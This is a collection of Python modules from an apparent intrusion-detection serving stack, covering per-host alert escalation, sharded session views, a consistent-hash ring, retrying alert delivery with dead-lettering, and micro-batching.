            session.context.append((timestamp, line))
            while len(session.context) > self.context_window:
                session.context.popleft()
        horizon = timestamp - self.window_seconds
        window = session.window
        while window and window[0] < horizon:
            window.popleft()
        newly_escalated = False
        if is_alert:
            session.alerts += 1
            window.append(timestamp)
            if (
                self.mode != "sequence"
                and not session.escalated
                and len(window) >= self.escalation_threshold
            ):
                self._escalate(session, timestamp, by="count")
                newly_escalated = True
        return session, newly_escalated

    def compose_context(self, host: str) -> str | None:
        """Composed multi-line text for *host*'s newest observed line.

        The newest context entry is the line being classified (it goes
        last); the preceding ``context_window - 1`` lines within
        ``context_max_gap_seconds`` of it are its context, joined with
        the ``;`` separator — identical semantics to the batch
        :class:`~repro.tuning.multiline.MultiLineComposer`, via the
        shared :func:`~repro.tuning.multiline.compose_window`.
        """
        session = self._sessions.get(host)
        if session is None or not session.context:
            return None
        composed = compose_window(
            list(session.context), self.context_window, self.context_max_gap_seconds
        )
        assert composed is not None
        return composed[0]

    def record_sequence_score(self, host: str, score: float) -> bool:
        """Account a second-stage sequence score for *host*.

        Returns ``True`` when this score newly escalated the host (only
        possible in the ``sequence`` / ``hybrid`` modes, and at most
        once per host — escalation is sticky).
        """
        session = self._sessions.get(host)
        if session is None:
            return False
        session.sequence_score = float(score)
        if (
            self.mode != "count"
            and not session.escalated
            and session.sequence_score >= self.sequence_threshold
        ):
            self._escalate(session, session.last_seen, by="sequence")
            return True
        return False

    def _escalate(self, session: HostSession, timestamp: float, by: str) -> None:
        session.escalated = True
        session.escalated_at = timestamp
        session.escalated_by = by

    def _evict_idle(self, current: str) -> None:
        # prefer idle non-escalated hosts, so sticky escalation survives
        # fleet churn; only when every tracked host is escalated does the
        # hard memory bound win and the oldest incident is dropped.  The
        # host being observed right now is never the victim.
        while len(self._sessions) > self.max_hosts:
            victim = next(
                (
                    host
                    for host, s in self._sessions.items()
                    if not s.escalated and host != current
                ),
                None,
            )
            if victim is None:
                victim = next(host for host in self._sessions if host != current)
            del self._sessions[victim]
            self.evictions += 1

    def session(self, host: str) -> HostSession | None:
        """The session for *host*, or ``None`` if never seen (or evicted)."""
        return self._sessions.get(host)

    def sessions(self) -> list[HostSession]:
        """All tracked sessions, least recently seen first."""
        return list(self._sessions.values())

    def escalated_hosts(self) -> list[str]:
        """Hosts currently in the escalated state."""
        return [s.host for s in self._sessions.values() if s.escalated]


class ShardedSessionView:
    """Read-only fan-in over per-shard :class:`SessionAggregator`\\ s.

    The sharded server keeps one aggregator per shard (all of a host's
    events land on its owning shard, so per-host state never crosses a
    shard boundary).  This view presents the fleet through the same
    read surface callers already use on a single aggregator —
    ``session(host)`` / ``sessions()`` / ``escalated_hosts()`` and the
    policy attributes — without ever copying or locking shard state.
    Mutation stays with the owning shard: the view deliberately has no
    ``observe``/``record_sequence_score``.
    """

    def __init__(self, aggregators: list[SessionAggregator]):
        if not aggregators:
            raise ValueError("ShardedSessionView needs at least one aggregator")
        self._aggregators = list(aggregators)

    #: Aggregator methods that write per-host state — forwarding them to
    #: an arbitrary shard would corrupt host ownership, so they raise.
    _MUTATORS = frozenset({"observe", "record_sequence_score"})

    def __getattr__(self, name: str):
        # policy attributes (mode, window_seconds, ...) are identical
        # across shards by construction; answer from the first
        if name.startswith("_"):
            raise AttributeError(name)
        if name in self._MUTATORS:
            raise AttributeError(
                f"ShardedSessionView is read-only: {name}() must run on the "
                "shard that owns the host (the server routes it there)"
            )
        return getattr(self._aggregators[0], name)

    @property
    def evictions(self) -> int:
        """Idle-host evictions across all shards."""
        return sum(agg.evictions for agg in self._aggregators)

    def session(self, host: str) -> HostSession | None:
        """The session for *host* from whichever shard owns it."""
        for agg in self._aggregators:
            session = agg.session(host)
            if session is not None:
                return session
        return None

    def compose_context(self, host: str) -> str | None:
        """*host*'s composed command window, from whichever shard owns it."""
        for agg in self._aggregators:
            if agg.session(host) is not None:
                return agg.compose_context(host)
        return None

    def sessions(self) -> list[HostSession]:
        """All tracked sessions across shards (shard order, then LRU)."""
        return [session for agg in self._aggregators for session in agg.sessions()]

    def escalated_hosts(self) -> list[str]:
        """Hosts currently escalated, across all shards."""
        return [s.host for s in self.sessions() if s.escalated]
