"""Per-host session aggregation with rolling-window escalation.

A single flagged command is an alert; a *burst* of flagged commands
from one host is an incident.  The aggregator keeps, per host, a
rolling window of recent alert timestamps and escalates the host once
the count inside the window crosses a threshold — after which further
alerts from that host are emitted with ``ESCALATED`` status so
downstream consumers can prioritise them.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field


@dataclass
class HostSession:
    """Rolling state for one host's command stream."""

    host: str
    events: int = 0
    alerts: int = 0
    escalated: bool = False
    escalated_at: float | None = None
    window: deque = field(default_factory=deque, repr=False)

    def alerts_in_window(self) -> int:
        """Alerts currently inside the rolling window."""
        return len(self.window)


class SessionAggregator:
    """Track per-host alert rates and flag hosts that burst.

    Parameters
    ----------
    window_seconds:
        Width of the rolling window alert timestamps are counted over.
    escalation_threshold:
        Number of alerts inside the window at which a host escalates.
        Escalation is sticky: once a host crosses the threshold it stays
        escalated for the lifetime of the aggregator (incident response
        owns de-escalation, not the detector).
    """

    def __init__(self, window_seconds: float = 300.0, escalation_threshold: int = 5):
        if window_seconds <= 0:
            raise ValueError("window_seconds must be positive")
        if escalation_threshold < 1:
            raise ValueError("escalation_threshold must be >= 1")
        self.window_seconds = window_seconds
        self.escalation_threshold = escalation_threshold
        self._sessions: dict[str, HostSession] = {}

    def observe(self, host: str, timestamp: float, is_alert: bool) -> tuple[HostSession, bool]:
        """Account one event; returns ``(session, newly_escalated)``.

        ``newly_escalated`` is true only on the exact event that pushed
        the host over the threshold, so callers can emit one escalation
        notice per incident rather than one per subsequent alert.
        """
        session = self._sessions.get(host)
        if session is None:
            session = self._sessions[host] = HostSession(host=host)
        session.events += 1
        horizon = timestamp - self.window_seconds
        window = session.window
        while window and window[0] < horizon:
            window.popleft()
        newly_escalated = False
        if is_alert:
            session.alerts += 1
            window.append(timestamp)
            if not session.escalated and len(window) >= self.escalation_threshold:
                session.escalated = True
                session.escalated_at = timestamp
                newly_escalated = True
        return session, newly_escalated

    def session(self, host: str) -> HostSession | None:
        """The session for *host*, or ``None`` if never seen."""
        return self._sessions.get(host)

    def sessions(self) -> list[HostSession]:
        """All sessions, insertion-ordered."""
        return list(self._sessions.values())

    def escalated_hosts(self) -> list[str]:
        """Hosts currently in the escalated state."""
        return [s.host for s in self._sessions.values() if s.escalated]
