"""The consistent-hash ring shared by both routing layers.

Two layers of the serving stack route by ``event.host`` onto a stable
owner: :class:`~repro.serving.shard.ShardRouter` hashes hosts across
the in-process shard pipelines of one server, and the fleet's
:class:`~repro.fleet.router.FleetRouter` hashes the same hosts across N
server *nodes*.  Both need the same two properties —

- **determinism**: a host's owner survives interpreter restarts and
  ``PYTHONHASHSEED`` (per-host session state lives wherever the host is
  routed, so routing is observable behaviour, not an implementation
  detail), and
- **minimal reassignment**: adding or removing one member moves only
  the keys that member owned (~1/N of all keys), never reshuffles the
  rest — the property that makes live resident state survive a shard
  resize or a node failure.

This module is that one shared implementation: a classic ring of
``virtual_nodes`` blake2b points per member, looked up with a binary
search.  :class:`HashRing` is immutable — membership changes build a
new ring (:meth:`HashRing.without` / :meth:`HashRing.extend`), which
keeps concurrent readers trivially safe and makes before/after
reassignment easy to reason about in tests.
"""

from __future__ import annotations

import bisect
from collections.abc import Iterable
from hashlib import blake2b


def ring_point(key: str) -> int:
    """Stable 64-bit hash for ring points and key lookups.

    ``blake2b`` rather than ``hash()``: the mapping must be identical
    across processes, runs, and machines — every router in a fleet has
    to agree on who owns a host without talking to each other.
    """
    return int.from_bytes(blake2b(key.encode("utf-8"), digest_size=8).digest(), "big")


class HashRing:
    """Consistent-hash ring mapping string keys onto named members.

    Each member contributes ``virtual_nodes`` points to the ring
    (hashed from ``"{member}/{replica}"``); a key hashes to a point and
    is owned by the first member point at or after it, wrapping.
    Virtual nodes smooth the spread (the standard consistent-hashing
    construction).

    Members are arbitrary identifier strings — shard names at the
    in-process layer, node ids at the fleet layer.  Construction order
    is irrelevant: the ring is a pure function of the member *set* and
    ``virtual_nodes``.
    """

    def __init__(self, members: Iterable[str], virtual_nodes: int = 64):
        members = list(dict.fromkeys(members))
        if not members:
            raise ValueError("a HashRing needs at least one member")
        if virtual_nodes < 1:
            raise ValueError("virtual_nodes must be >= 1")
        for member in members:
            if not isinstance(member, str) or not member:
                raise ValueError(f"ring members must be non-empty strings (got {member!r})")
        self.members = tuple(members)
        self.virtual_nodes = virtual_nodes
        points = sorted(
            (ring_point(f"{member}/{replica}"), member)
            for member in members
            for replica in range(virtual_nodes)
        )
        self._hashes = [point for point, _ in points]
        self._owners = [member for _, member in points]

    def route(self, key: str) -> str:
        """The member owning *key*."""
        if len(self.members) == 1:
            return self.members[0]
        index = bisect.bisect_right(self._hashes, ring_point(key))
        return self._owners[index % len(self._owners)]

    def spread(self, keys: Iterable[str]) -> dict[str, int]:
        """Keys per member for an iterable of keys (diagnostics)."""
        counts: dict[str, int] = {member: 0 for member in self.members}
        for key in keys:
            counts[self.route(key)] += 1
        return counts

    # -- membership changes (immutable: each returns a new ring) -----------

    def without(self, member: str) -> "HashRing":
        """A new ring with *member* removed.

        Only keys the removed member owned change hands — every other
        key keeps its owner (its first point at-or-after is untouched).
        """
        if member not in self.members:
            raise ValueError(f"{member!r} is not a ring member")
        remaining = [m for m in self.members if m != member]
        if not remaining:
            raise ValueError("cannot remove the last ring member")
        return HashRing(remaining, virtual_nodes=self.virtual_nodes)

    def extend(self, members: Iterable[str]) -> "HashRing":
        """A new ring with *members* added (existing members kept)."""
        return HashRing(
            list(self.members) + list(members), virtual_nodes=self.virtual_nodes
        )

    def __contains__(self, member: str) -> bool:
        return member in self.members

    def __len__(self) -> int:
        return len(self.members)

    def __repr__(self) -> str:
        return (
            f"HashRing(members={list(self.members)!r}, "
            f"virtual_nodes={self.virtual_nodes})"
        )
