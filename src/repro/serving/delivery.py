"""Durable alert delivery: per-sink bounded queues, retries, dead-letters.

The v1 serving path fanned alerts out *synchronously*: a slow or broken
sink stalled (or silently lost) alerts on the scoring path.  The
:class:`DeliveryPipeline` decouples the two — :meth:`DeliveryPipeline.emit`
only enqueues, and one background worker thread per sink drains its
queue in batches, applying that sink's
:class:`~repro.serving.config.DeliveryPolicy`:

- **bounded queue** — ``queue_size`` caps memory per sink;
- **backpressure** — ``on_full="block"`` makes the emitter wait (no
  loss), ``on_full="drop"`` sheds the alert and counts it;
- **retry with exponential backoff** — a failing ``emit_many`` is
  retried up to ``max_retries`` times
  (``min(backoff_ms * multiplier**attempt, max_backoff_ms)`` between
  attempts);
- **dead-letter file** — a batch that exhausts its retries is appended,
  one JSON object per alert (with the sink name and error), to
  ``dead_letter_path``.

The invariant the tests enforce: **no silent drops**.  Every alert
submitted to a sink is eventually delivered, dead-lettered, or counted
as dropped by an explicit ``on_full="drop"`` policy —
``stats[name].submitted == delivered + dead_lettered + dropped`` once
:meth:`DeliveryPipeline.flush` returns.

Per-sink ordering is preserved (one FIFO queue, one worker per sink);
sinks are independent, so one sink's retries never delay another's
deliveries.
"""

from __future__ import annotations

import json
import queue
import threading
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from repro.serving.config import DeliveryPolicy
from repro.serving.events import DetectionAlert
from repro.serving.sinks import AlertSink, ensure_sink

_STOP = object()


@dataclass
class SinkStats:
    """Delivery accounting for one sink (keyed by its unique name, so
    two sinks of the same class never share a counter).

    Attributes
    ----------
    submitted:
        Alerts handed to :meth:`DeliveryPipeline.emit` for this sink.
    delivered:
        Alerts the sink acknowledged (``emit_many`` returned).
    batches:
        Delivered batches (``delivered / batches`` = mean batch size).
    retries:
        Failed delivery attempts that were retried.
    dead_lettered:
        Alerts that exhausted their retries.
    dropped:
        Alerts shed by an ``on_full="drop"`` policy on a full queue.
    """

    name: str
    submitted: int = 0
    delivered: int = 0
    batches: int = 0
    retries: int = 0
    dead_lettered: int = 0
    dropped: int = 0

    def snapshot(self) -> dict:
        """Stable-keyed, JSON-serialisable form."""
        return {
            "submitted": self.submitted,
            "delivered": self.delivered,
            "batches": self.batches,
            "retries": self.retries,
            "dead_lettered": self.dead_lettered,
            "dropped": self.dropped,
        }


class _SinkWorker:
    """One sink's queue + drain thread (an implementation detail of
    :class:`DeliveryPipeline`)."""

    def __init__(
        self, sink: AlertSink, policy: DeliveryPolicy, name: str, max_batch: int = 128
    ):
        self.sink = sink
        self.policy = policy
        self.stats = SinkStats(name)
        self._max_batch = max_batch
        self._queue: queue.Queue = queue.Queue(maxsize=policy.queue_size)
        self._thread: threading.Thread | None = None
        self._dead_letter_lock = threading.Lock()

    # -- lifecycle -----------------------------------------------------------

    def start(self) -> None:
        if self._thread is not None and self._thread.is_alive():
            return
        try:
            self.sink.open()
        except Exception:
            # a sink that cannot open yet (webhook endpoint still
            # starting, say) gets another chance per emit attempt
            pass
        self._thread = threading.Thread(
            target=self._run, name=f"alert-sink-{self.stats.name}", daemon=True
        )
        self._thread.start()

    def submit(self, alert: DetectionAlert) -> bool:
        """Enqueue one alert, honouring the backpressure policy."""
        self.stats.submitted += 1
        if self.policy.on_full == "drop":
            try:
                self._queue.put_nowait(alert)
            except queue.Full:
                self.stats.dropped += 1
                return False
        else:
            self._queue.put(alert)  # blocks: backpressure onto the emitter
        return True

    def flush(self) -> None:
        """Block until every queued alert is delivered or dead-lettered."""
        self._queue.join()
        try:
            self.sink.flush()
        except Exception:
            pass

    def close(self) -> None:
        """Drain the queue, stop the worker, and close the sink."""
        if self._thread is not None and self._thread.is_alive():
            self._queue.put(_STOP)
            self._queue.join()
            self._thread.join(timeout=30.0)
        self._thread = None
        try:
            self.sink.close()
        except Exception:
            pass

    # -- worker loop ---------------------------------------------------------

    def _run(self) -> None:
        while True:
            item = self._queue.get()
            if item is _STOP:
                self._queue.task_done()
                return
            batch = [item]
            stop_seen = False
            while len(batch) < self._max_batch:
                try:
                    extra = self._queue.get_nowait()
                except queue.Empty:
                    break
                if extra is _STOP:
                    stop_seen = True
                    break
                batch.append(extra)
            try:
                self._deliver(batch)
            except Exception:
                # _deliver handles its own failures; this is a backstop so
                # an unexpected error can never kill the worker thread and
                # strand queued alerts — the batch is counted as lost
                self.stats.dead_lettered += len(batch)
            finally:
                for _ in batch:
                    self._queue.task_done()
                if stop_seen:
                    self._queue.task_done()
            if stop_seen:
                return

    def _deliver(self, batch: list[DetectionAlert]) -> None:
        policy = self.policy
        attempt = 0
        while True:
            try:
                self.sink.emit_many(batch)
            except Exception as exc:
                if attempt >= policy.max_retries:
                    self._dead_letter(batch, exc)
                    return
                self.stats.retries += 1
                delay_ms = min(
                    policy.backoff_ms * (policy.backoff_multiplier**attempt),
                    policy.max_backoff_ms,
                )
                time.sleep(delay_ms / 1000.0)
                attempt += 1
                continue
            self.stats.delivered += len(batch)
            self.stats.batches += 1
            return

    def _dead_letter(self, batch: Sequence[DetectionAlert], exc: Exception) -> None:
        self.stats.dead_lettered += len(batch)
        path = self.policy.dead_letter_path
        if path is None:
            return
        record_base = {"sink": self.stats.name, "error": repr(exc)}
        try:
            target = Path(path)
            target.parent.mkdir(parents=True, exist_ok=True)
            with self._dead_letter_lock, target.open("a", encoding="utf-8") as handle:
                for alert in batch:
                    handle.write(
                        json.dumps({**record_base, "alert": alert.to_json()}) + "\n"
                    )
                handle.flush()
        except Exception:
            pass  # the dead-letter path must never raise into delivery


class DeliveryPipeline:
    """Fan alerts out to sinks through per-sink durable delivery workers.

    Construct empty (or from an iterable of sinks, which get the
    default policy) and :meth:`add` sinks with their
    :class:`~repro.serving.config.DeliveryPolicy`; the
    :class:`~repro.serving.server.DetectionServer` builds one from a
    :class:`~repro.serving.config.ServingConfig`'s sink specs.  The
    pipeline is restartable: after :meth:`close`, a new :meth:`start`
    (or the next :meth:`emit`) spins the workers back up, with
    cumulative stats.
    """

    def __init__(self, sinks: Iterable[AlertSink] = ()):
        self._workers: list[_SinkWorker] = []
        self._started = False
        for sink in sinks:
            self.add(sink)

    # -- assembly ------------------------------------------------------------

    def add(
        self,
        sink,
        policy: DeliveryPolicy | None = None,
        name: str | None = None,
    ) -> str:
        """Register *sink* under *policy*, returning its unique name.

        Legacy ``emit()``-only sinks are auto-adapted.  *name* defaults
        to ``ClassName[index]``; a duplicate explicit name gets an
        ``#n`` suffix so stats never collide.
        """
        sink = ensure_sink(sink)
        if name is None:
            name = f"{type(sink).__name__}[{len(self._workers)}]"
        taken = {worker.stats.name for worker in self._workers}
        unique, n = name, 1
        while unique in taken:
            n += 1
            unique = f"{name}#{n}"
        worker = _SinkWorker(sink, policy or DeliveryPolicy(), unique)
        self._workers.append(worker)
        if self._started:
            worker.start()
        return unique

    @property
    def sinks(self) -> list[AlertSink]:
        """The registered sinks, in registration order."""
        return [worker.sink for worker in self._workers]

    # -- lifecycle -----------------------------------------------------------

    def start(self) -> None:
        """Open every sink and start its delivery worker (idempotent)."""
        self._started = True
        for worker in self._workers:
            worker.start()

    def flush(self) -> None:
        """Block until every queued alert is delivered or dead-lettered."""
        for worker in self._workers:
            worker.flush()

    def close(self) -> None:
        """Drain all queues, stop all workers, close all sinks."""
        for worker in self._workers:
            worker.close()
        self._started = False

    # -- emission ------------------------------------------------------------

    def emit(self, alert: DetectionAlert) -> None:
        """Enqueue *alert* for every sink (starting workers on first use)."""
        if not self._started:
            self.start()
        for worker in self._workers:
            worker.submit(alert)

    def emit_many(self, alerts: Sequence[DetectionAlert]) -> None:
        """Enqueue a batch of alerts for every sink."""
        for alert in alerts:
            self.emit(alert)

    # -- accounting ----------------------------------------------------------

    def stats(self) -> dict[str, SinkStats]:
        """Per-sink delivery stats, keyed by unique sink name."""
        return {worker.stats.name: worker.stats for worker in self._workers}

    def snapshot(self) -> dict:
        """JSON-serialisable per-sink stats (stable keys)."""
        return {name: stats.snapshot() for name, stats in self.stats().items()}

    @property
    def delivered(self) -> int:
        """Total alerts acknowledged across all sinks."""
        return sum(worker.stats.delivered for worker in self._workers)

    @property
    def dead_lettered(self) -> int:
        """Total alerts that exhausted their retries, across all sinks."""
        return sum(worker.stats.dead_lettered for worker in self._workers)

    @property
    def dropped(self) -> int:
        """Total alerts shed by ``on_full="drop"`` policies."""
        return sum(worker.stats.dropped for worker in self._workers)

    @property
    def failures(self) -> dict[str, int]:
        """Alerts *not* delivered (dead-lettered + dropped), per sink —
        only sinks with failures appear."""
        out: dict[str, int] = {}
        for worker in self._workers:
            lost = worker.stats.dead_lettered + worker.stats.dropped
            if lost:
                out[worker.stats.name] = lost
        return out

    def render(self) -> str:
        """Human-readable delivery report (printed by ``repro-ids serve``)."""
        lines = ["alert delivery", "--------------"]
        if not self._workers:
            lines.append("(no sinks)")
        for name, stats in self.stats().items():
            snap = stats.snapshot()
            detail = " ".join(f"{key}={value}" for key, value in snap.items())
            lines.append(f"{name:>24}: {detail}")
        return "\n".join(lines)
