"""Streaming detection service: the always-on inference path of Figure 1.

Public surface:

- :class:`ServingConfig` and its nodes (:class:`BatchConfig`,
  :class:`CacheConfig`, :class:`BackendConfig`, :class:`SessionConfig`,
  :class:`SinkSpec`, :class:`DeliveryPolicy`) — the typed, declarative
  description of one deployment, loadable from TOML/JSON
  (``--config serve.toml``) with a lossless ``to_dict`` round-trip.
- :class:`DetectionServer` (canonical constructor:
  :meth:`DetectionServer.from_config`) / :func:`serve_stream` /
  :func:`tail_stream` — the asyncio server and its synchronous drivers
  (read-to-EOF and live-tail).  The server is a thin router over
  :class:`ShardRuntime` pipelines (:class:`ShardRouter` consistent-
  hashes hosts across them); each shard owns its own batcher, cache,
  and session table while the backend, model, and delivery pipeline
  stay shared.
- :class:`Autoscaler` + :class:`AutoscaleConfig` — control loop
  resizing the scoring-worker pool from observed backlog, batch
  latency, and the generation-scoped cache hit rate.
- :class:`ScoringBackend` and its three strategies —
  :class:`InlineBackend`, :class:`ThreadedBackend`,
  :class:`ProcessPoolBackend` — deciding where the LM forward pass
  runs; ``DetectionServer.swap_model`` hot-rotates all of them.
- :class:`MicroBatcher` — flush-on-size-or-deadline batching queue.
- :class:`ScoreCache` — LRU normalized-line → score cache with
  model-generation invalidation, optional TTL expiry, and optional
  TinyLFU frequency-aware admission (:class:`FrequencySketch`).
- :class:`SessionAggregator` / :class:`HostSession` — per-host rolling
  windows with escalation.
- :class:`AlertSink` (batch-first ``open/emit_many/flush/close``
  protocol) and its implementations — :class:`RingBufferSink`,
  :class:`JsonlSink`, :class:`CallbackSink`, :class:`WebhookSink`,
  :class:`TcpSocketSink` — constructible from URIs via
  :func:`build_sink` / :class:`SinkRegistry`.
- :class:`DeliveryPipeline` — durable per-sink delivery (bounded
  queues, backpressure, retry with backoff, dead-letter JSONL) with
  per-sink :class:`SinkStats`.
- :class:`ServingMetrics` — throughput / latency / hit-rate counters.
- Event model: :class:`CommandEvent`, :class:`DetectionResult`,
  :class:`DetectionAlert`, :class:`Severity`, :class:`AlertStatus`.
"""

from repro.serving.autoscale import (
    Autoscaler,
    AutoscaleDecision,
    AutoscaleObservation,
)
from repro.serving.backends import (
    InlineBackend,
    ProcessPoolBackend,
    ScoringBackend,
    ThreadedBackend,
    WorkerCrashError,
    load_bundle,
)
from repro.serving.cache import ADMISSION_POLICIES, FrequencySketch, ScoreCache
from repro.serving.config import (
    AutoscaleConfig,
    BackendConfig,
    BatchConfig,
    CacheConfig,
    CanonicalizeConfig,
    DeliveryPolicy,
    ServingConfig,
    SessionConfig,
    ShardConfig,
    SinkSpec,
    load_recorded_config,
)
from repro.serving.delivery import DeliveryPipeline, SinkStats
from repro.serving.frames import (
    FRAME_TRANSPORTS,
    BatchFrame,
    open_frame,
    publish_frame,
    retire_frame,
    shm_available,
)
from repro.serving.events import (
    AlertStatus,
    CommandEvent,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import BatchAborted, MicroBatcher
from repro.serving.ring import HashRing, ring_point
from repro.serving.server import (
    DetectionServer,
    SwapReport,
    backend_from_config,
    serve_batches,
    serve_stream,
    tail_stream,
)
from repro.serving.sessions import (
    ESCALATION_MODES,
    HostSession,
    SessionAggregator,
    ShardedSessionView,
)
from repro.serving.shard import ShardContext, ShardRouter, ShardRuntime
from repro.serving.sinks import (
    DEFAULT_SINK_REGISTRY,
    AlertSink,
    CallbackSink,
    JsonlSink,
    RingBufferSink,
    SinkFanout,
    SinkRegistry,
    TcpSocketSink,
    WebhookSink,
    build_sink,
    ensure_sink,
    register_sink_scheme,
)

__all__ = [
    "ADMISSION_POLICIES",
    "AlertSink",
    "AlertStatus",
    "AutoscaleConfig",
    "AutoscaleDecision",
    "AutoscaleObservation",
    "Autoscaler",
    "BackendConfig",
    "BatchAborted",
    "BatchConfig",
    "BatchFrame",
    "CacheConfig",
    "CallbackSink",
    "CanonicalizeConfig",
    "CommandEvent",
    "DEFAULT_SINK_REGISTRY",
    "FrequencySketch",
    "HashRing",
    "DeliveryPipeline",
    "DeliveryPolicy",
    "DetectionAlert",
    "DetectionResult",
    "DetectionServer",
    "ESCALATION_MODES",
    "FRAME_TRANSPORTS",
    "HostSession",
    "InlineBackend",
    "JsonlSink",
    "MicroBatcher",
    "ProcessPoolBackend",
    "RingBufferSink",
    "ScoreCache",
    "ScoringBackend",
    "ServingConfig",
    "ServingMetrics",
    "SessionAggregator",
    "SessionConfig",
    "Severity",
    "ShardConfig",
    "ShardContext",
    "ShardRouter",
    "ShardRuntime",
    "ShardedSessionView",
    "SinkFanout",
    "SinkRegistry",
    "SinkSpec",
    "SinkStats",
    "SwapReport",
    "TcpSocketSink",
    "ThreadedBackend",
    "WebhookSink",
    "WorkerCrashError",
    "backend_from_config",
    "build_sink",
    "ensure_sink",
    "load_bundle",
    "load_recorded_config",
    "open_frame",
    "publish_frame",
    "register_sink_scheme",
    "retire_frame",
    "ring_point",
    "serve_batches",
    "serve_stream",
    "shm_available",
    "tail_stream",
]
