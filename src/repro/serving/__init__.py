"""Streaming detection service: the always-on inference path of Figure 1.

Public surface:

- :class:`DetectionServer` / :func:`serve_stream` / :func:`tail_stream`
  — the asyncio server and its synchronous drivers (read-to-EOF and
  live-tail).
- :class:`ScoringBackend` and its three strategies —
  :class:`InlineBackend`, :class:`ThreadedBackend`,
  :class:`ProcessPoolBackend` — deciding where the LM forward pass
  runs; ``DetectionServer.swap_model`` hot-rotates all of them.
- :class:`MicroBatcher` — flush-on-size-or-deadline batching queue.
- :class:`ScoreCache` — LRU normalized-line → score cache with
  model-generation invalidation.
- :class:`SessionAggregator` / :class:`HostSession` — per-host rolling
  windows with escalation.
- :class:`AlertSink` and friends — pluggable alert fan-out.
- :class:`ServingMetrics` — throughput / latency / hit-rate counters.
- Event model: :class:`CommandEvent`, :class:`DetectionResult`,
  :class:`DetectionAlert`, :class:`Severity`, :class:`AlertStatus`.
"""

from repro.serving.backends import (
    InlineBackend,
    ProcessPoolBackend,
    ScoringBackend,
    ThreadedBackend,
    WorkerCrashError,
    load_bundle,
)
from repro.serving.cache import ScoreCache
from repro.serving.events import (
    AlertStatus,
    CommandEvent,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import BatchAborted, MicroBatcher
from repro.serving.server import DetectionServer, SwapReport, serve_stream, tail_stream
from repro.serving.sessions import HostSession, SessionAggregator
from repro.serving.sinks import (
    AlertSink,
    CallbackSink,
    JsonlSink,
    RingBufferSink,
    SinkFanout,
)

__all__ = [
    "AlertSink",
    "AlertStatus",
    "BatchAborted",
    "CallbackSink",
    "CommandEvent",
    "DetectionAlert",
    "DetectionResult",
    "DetectionServer",
    "HostSession",
    "InlineBackend",
    "JsonlSink",
    "MicroBatcher",
    "ProcessPoolBackend",
    "RingBufferSink",
    "ScoreCache",
    "ScoringBackend",
    "ServingMetrics",
    "SessionAggregator",
    "Severity",
    "SinkFanout",
    "SwapReport",
    "ThreadedBackend",
    "WorkerCrashError",
    "load_bundle",
    "serve_stream",
    "tail_stream",
]
