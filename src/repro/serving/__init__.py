"""Streaming detection service: the always-on inference path of Figure 1.

Public surface:

- :class:`DetectionServer` / :func:`serve_stream` — the asyncio server
  and its synchronous driver.
- :class:`MicroBatcher` — flush-on-size-or-deadline batching queue.
- :class:`ScoreCache` — LRU normalized-line → score cache.
- :class:`SessionAggregator` / :class:`HostSession` — per-host rolling
  windows with escalation.
- :class:`AlertSink` and friends — pluggable alert fan-out.
- :class:`ServingMetrics` — throughput / latency / hit-rate counters.
- Event model: :class:`CommandEvent`, :class:`DetectionResult`,
  :class:`DetectionAlert`, :class:`Severity`, :class:`AlertStatus`.
"""

from repro.serving.cache import ScoreCache
from repro.serving.events import (
    AlertStatus,
    CommandEvent,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import MicroBatcher
from repro.serving.server import DetectionServer, serve_stream
from repro.serving.sessions import HostSession, SessionAggregator
from repro.serving.sinks import (
    AlertSink,
    CallbackSink,
    JsonlSink,
    RingBufferSink,
    SinkFanout,
)

__all__ = [
    "AlertSink",
    "AlertStatus",
    "CallbackSink",
    "CommandEvent",
    "DetectionAlert",
    "DetectionResult",
    "DetectionServer",
    "HostSession",
    "JsonlSink",
    "MicroBatcher",
    "RingBufferSink",
    "ScoreCache",
    "ServingMetrics",
    "SessionAggregator",
    "Severity",
    "SinkFanout",
    "serve_stream",
]
