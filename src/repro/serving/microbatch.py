"""Micro-batching queue: many concurrent producers, one batched consumer.

The LM encoder is far more efficient at its native batch width than at
batch size 1, but streaming producers submit one event at a time.  The
:class:`MicroBatcher` bridges the two: submissions are coalesced and
flushed to a batch handler when either ``max_batch`` items have
accumulated or the oldest item has waited ``max_latency_ms`` —
whichever comes first.  This is the standard inference-serving
micro-batch policy (bounded batching delay, full batches under load).

The handler may be a plain synchronous callable (the in-loop LM scoring
path) or return an awaitable (the sharded thread/process scoring
backends).  With an awaitable handler the event loop stays responsive
while a batch is being scored out-of-loop, so new submissions accumulate
into the *next* batch instead of blocking behind the current one.
"""

from __future__ import annotations

import asyncio
import inspect
from collections.abc import Callable, Sequence
from typing import Any

#: Flush cause reported to the ``on_flush`` observer.
FLUSH_SIZE = "size"
FLUSH_DEADLINE = "deadline"
FLUSH_DRAIN = "drain"


class BatchAborted(RuntimeError):
    """The batcher was stopped while this item's batch was in flight.

    Producers blocked in :meth:`MicroBatcher.submit` receive this
    instead of hanging forever when ``stop()`` lands mid-score.
    """


class MicroBatcher:
    """Coalesce single-item submissions into handler-sized batches.

    Parameters
    ----------
    handler:
        ``handler(items) -> results`` with ``len(results) == len(items)``,
        called with at most ``max_batch`` items.  May be synchronous or
        return an awaitable (e.g. an ``async def`` scoring backend).
    max_batch:
        Flush as soon as this many items are pending.
    max_latency_ms:
        Flush when the oldest pending item has waited this long, even if
        the batch is not full — bounds per-event queueing delay under
        light traffic.
    on_flush:
        Optional observer ``on_flush(batch_size, reason)`` invoked after
        every flush (serving metrics hook).

    Example
    -------
    >>> batcher = MicroBatcher(lambda xs: [x * 2 for x in xs])  # doctest: +SKIP
    >>> await batcher.start()                                   # doctest: +SKIP
    >>> await batcher.submit(21)                                # doctest: +SKIP
    42
    """

    def __init__(
        self,
        handler: Callable[[list[Any]], Sequence[Any]],
        max_batch: int = 32,
        max_latency_ms: float = 25.0,
        on_flush: Callable[[int, str], None] | None = None,
    ):
        if max_batch < 1:
            raise ValueError("max_batch must be >= 1")
        if max_latency_ms <= 0:
            raise ValueError("max_latency_ms must be positive")
        self.handler = handler
        self.max_batch = max_batch
        self.max_latency_ms = max_latency_ms
        self.on_flush = on_flush
        self._queue: asyncio.Queue[tuple[Any, asyncio.Future]] = asyncio.Queue()
